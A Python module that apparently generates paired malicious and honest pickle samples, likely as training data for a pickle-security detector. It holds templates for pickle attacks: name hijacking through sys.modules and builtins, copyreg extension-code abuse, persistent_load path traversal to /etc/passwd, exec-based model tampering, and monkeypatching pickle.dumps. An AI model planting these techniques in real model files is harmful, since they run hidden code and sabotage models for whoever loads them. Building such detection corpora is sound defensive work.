"""Tricks of naming and making: other names for modules, extension codes, persistent ids, copyreg, tampered models."""

from __future__ import annotations

from typing import Any

from train.corpus.attacks.functions import hostile_function
from train.corpus.attacks.techniques import Aim, fetched, module_object
from train.corpus.draw import Draw
from train.corpus.gadgets import payloads
from train.corpus.gadgets.arguments import callback
from train.corpus.honest import objects, values
from train.corpus.spelling.expressions import (
    Build,
    Call,
    Computed,
    Extension,
    New,
    Persistent,
    Ref,
    Same,
    SetItems,
    Steps,
)
from train.corpus.spelling.scripts import expression_of, helper

_INNOCENT = (
    ("numpy.core.multiarray", "_reconstruct"), ("torch._utils", "_rebuild_tensor_v2"), ("collections", "OrderedDict"),
    ("copyreg", "_reconstructor"), ("sklearn.tree._tree", "Tree"), ("joblib.numpy_pickle", "NumpyArrayWrapper"),
    ("datetime", "datetime"), ("builtins", "set"), ("codecs", "encode"), ("uuid", "UUID"),
)  # fmt: skip
"""Names that honest pickles call, for an attacker to put something else behind."""


def aliased(aim: Aim, rng: Draw) -> Any:
    """Give a module or a callable another name first, then call it by that."""
    alias = rng.choice(
        (payloads.word(rng), "\u00e9", f"numpy.{payloads.word(rng)}", "torch.nn.modules.linear_", "\u043es")
    )
    name = aim.gadget.name
    g = aim.ref if rng.random() < 0.7 else fetched(aim, rng)
    module, attribute = rng.choice(_INNOCENT)
    innocent = Call(Ref(module, attribute), aim.arguments)
    owner = Call(Ref("importlib", "import_module"), (module,))
    parent = module_object(aim.gadget.module, rng)
    return rng.template(
        (
            lambda: Steps((SetItems(Ref("sys", "modules"), {alias: parent}),), Call(Ref(alias, name), aim.arguments)),
            lambda: Steps((Build(owner, {attribute: g}),), innocent),
            lambda: Steps((Build(owner, (None, {attribute: g})),), innocent),
            lambda: Steps((Call(Ref("builtins", "setattr"), (owner, attribute, g)),), innocent),
            lambda: Steps((SetItems(Ref(module, "__dict__"), {attribute: g}),), innocent),
            lambda: Steps(
                (SetItems(Ref("builtins", "__dict__"), {alias: g}),), Call(Ref("builtins", alias), aim.arguments)
            ),
            lambda: Steps(
                (SetItems(Ref("__main__", "__dict__"), {alias: g}),), Call(Ref("__main__", alias), aim.arguments)
            ),
            lambda: Steps(
                (Call(Ref("builtins", "dict.update"), (Ref("sys", "modules"), {alias: parent})),),
                Call(Computed(alias, name), aim.arguments),
            ),
            lambda: Steps(
                (Call(Ref("sys", "modules.__setitem__"), (alias, parent)),), Call(Ref(alias, name), aim.arguments)
            ),
        )
    )()


def named_honestly(rng: Draw) -> Any:
    """Return an honest call of one of the innocent names, behind a harmless change of a container."""
    change = SetItems(Call(Ref("collections", "OrderedDict"), ()), {payloads.word(rng): values.class_ref(rng)})
    return Steps((change,), objects.array(rng) if rng.random() < 0.5 else objects.custom_object(rng))


def extension(aim: Aim, rng: Draw) -> Any:
    """Call by a code of the extension registry: registered earlier in the stream, or by the loading program."""
    code = rng.choice((rng.randrange(1, 256), rng.randrange(256, 65536), rng.randrange(65536, 2**31)))
    module, name = aim.gadget.module, aim.gadget.name
    call = Call(Extension(code), aim.arguments)
    add = Ref(*rng.choice((("copyreg", "add_extension"), ("copy_reg", "add_extension"))))
    return rng.template(
        (
            lambda: Steps((Call(add, (module, name, code)),), call),
            lambda: Steps((SetItems(Ref("copyreg", "_inverted_registry"), {code: (module, name)}),), call),
            lambda: Steps((SetItems(Ref("copyreg", "_extension_cache"), {code: aim.ref}),), call),
            lambda: Steps((Call(Ref("copyreg", "_extension_cache.__setitem__"), (code, fetched(aim, rng))),), call),
            lambda: Steps((Call(Ref("copyreg", "_inverted_registry.update"), ({code: (module, name)},)),), call),
            lambda: call,
        )
    )()


def registered(rng: Draw) -> Any:
    """Return an honest object whose class goes by an extension code that its program registered."""
    cls = Extension(rng.randrange(1, 300))
    return rng.choice((Build(New(cls), objects.state(rng)), Call(cls, (values.scalar(rng),)), New(cls)))


def persistent(aim: Aim, rng: Draw) -> Any:
    """Have the loading program's persistent_load act: on a path, a URL, a callable, a nested call."""
    call = Call(aim.ref, aim.arguments)
    path = rng.choice((payloads.path(rng), "../../../etc/passwd", payloads.url(rng), f"../{payloads.word(rng)}.py"))
    storage = Ref("torch", "FloatStorage")
    return rng.template(
        (
            lambda: Persistent(("storage", call, path, "cpu", rng.randrange(99))),
            lambda: Persistent(("module", aim.ref, path, payloads.code(rng))),
            lambda: Persistent(path),
            lambda: Call(Persistent(f"{aim.gadget.module}:{aim.gadget.name}"), aim.arguments),
            lambda: Call(Persistent((aim.gadget.module, aim.gadget.name)), aim.arguments),
            lambda: Persistent(("storage", storage, path, "cpu", 1)),
            lambda: Persistent(call),
            lambda: Persistent((call, None)),
        )
    )()


def reconstructed(aim: Aim, rng: Draw) -> Any:
    """Make a class do the work in its `__new__` or `__init__`, called by copyreg, NEWOBJ or NEWOBJ_EX."""
    g = aim.ref if rng.random() < 0.7 else fetched(aim, rng)
    first = aim.arguments[0] if aim.arguments else None
    lazy = New(Ref("builtins", rng.choice(("map", "filter"))), (g, [first]))
    drain = rng.choice(("tuple", "bytes", "frozenset", "bytearray", "set", "list"))
    return rng.template(
        (
            lambda: New(Ref("builtins", rng.choice(("tuple", "bytes", "frozenset"))), (lazy,)),
            lambda: Call(Ref("copyreg", "__newobj__"), (Ref("builtins", drain), lazy)),
            lambda: Call(Ref("copyreg", "__newobj_ex__"), (Ref("builtins", drain), (lazy,), {})),
            lambda: Call(Ref("copyreg", "_reconstructor"), (g, g, first)),
            lambda: Call(Ref("copyreg", "_reconstructor"), (Ref("builtins", "list"), Ref("builtins", "list"), lazy)),
            lambda: New(Ref("builtins", "tuple"), (New(Ref("itertools", "starmap"), (g, [aim.arguments])),)),
            lambda: Call(New(helper("functools", "partial", rng), (g, *aim.arguments)), ()),
            lambda: Call(New(helper("functools", "partial", rng), (g,), {"x": first}), ()),
            lambda: Call(New(Ref("types", "MethodType"), (g, first)), aim.arguments[1:]),
            lambda: Call(Ref("copyreg", "__newobj__"), (g, *aim.arguments)),
            lambda: Build(New(Ref(aim.gadget.module, aim.gadget.name), aim.arguments), {payloads.word(rng): first}),
        )
    )()


def made_honestly(rng: Draw) -> Any:
    """Return honest objects that copyreg, NEWOBJ and NEWOBJ_EX make."""
    cls = values.class_ref(rng)
    return rng.template(
        (
            lambda: New(cls, (values.scalar(rng),)),
            lambda: New(cls, (values.scalar(rng),), {values.key(rng): values.scalar(rng)}),
            lambda: Call(Ref("copyreg", "__newobj__"), (cls, values.scalar(rng))),
            lambda: Call(Ref("copyreg", "__newobj_ex__"), (cls, (), {values.key(rng): values.scalar(rng)})),
            lambda: Build(
                Call(Ref("copyreg", "_reconstructor"), (cls, Ref("builtins", "object"), None)), objects.state(rng)
            ),
            lambda: Call(Ref("copyreg", "_reconstructor"), (cls, Ref("builtins", "list"), [values.scalar(rng)])),
            lambda: New(Ref("builtins", "tuple"), ([values.scalar(rng)],)),
            lambda: New(helper("functools", "partial", rng), (cls, values.scalar(rng))),
        )
    )()


def tampered(aim: Aim, rng: Draw) -> Any:
    """Load an honest model, and change it, or what loads it, on the way."""
    model = Same(objects.estimator(rng) if rng.random() < 0.5 else objects.custom_object(rng))
    hook = callback(rng) if rng.random() < 0.4 else hostile_function(rng)
    attribute = rng.choice(("forward", "predict", "transform", "__call__", "__reduce__", "save", "state_dict"))
    names = {"m": model, "h": hook, "attribute": attribute, "w": payloads.word(rng), "code": _patch(attribute, rng)}
    script = rng.template(
        (
            "builtins:exec(code, {'model': m}); m",
            "builtins:setattr(m, attribute, h); m",
            "builtins:setattr(m.__class__, attribute, h); m",
            "builtins:setattr(m, attribute, types:MethodType(h, m)); m",
            "builtins:exec(code); m",
            "builtins:eval(code, {'model': m, 'h': h}) ; m",
            "h(m); m",
            "builtins:getattr(m, 'coef_').fill(0); m",
            "torch:Tensor.zero_(m.weight); m",
            "torch.nn.init:constant_(m.weight, 0.0); m",
            "m.__reduce_ex__ = h; m",
            "m.register_forward_hook(h); m",
            "c = copyreg:dispatch_table; c[m.__class__] = h; m",
            "builtins:exec(code, m.__dict__); m",
        )
    )
    return expression_of(script, names, rng)


def _patch(attribute: str, rng: Draw) -> str:
    w = payloads.word(rng)
    return rng.template(
        (
            f"import torch\nold = torch.nn.Module.{attribute}\ntorch.nn.Module.{attribute} = lambda *a: old(*a) * 0",
            f"model.{attribute} = lambda *a, **k: {w!r}",
            f"for p in model.parameters():\n    p.data.add_({rng.random():.3f})",
            f"import pickle\nreal = pickle.dumps\npickle.dumps = lambda o, *a: b'{w}' + real(o, *a)",
            f"import sys, types\nsys.modules['__main__'].{w} = type(model).{attribute}",
            f"model.__dict__['coef_'] *= -1\nmodel.{w} = 'patched'",
            f"setattr(type(model), {attribute!r}, lambda self, *a: open('/tmp/{w}', 'a').write(str(a)))",
        )
    )


def left_alone(rng: Draw) -> Any:
    """Return an honest model with a function among its attributes."""
    model = objects.estimator(rng) if rng.random() < 0.5 else objects.custom_object(rng)
    return {values.key(rng): model, "callback": values.function_ref(rng)}
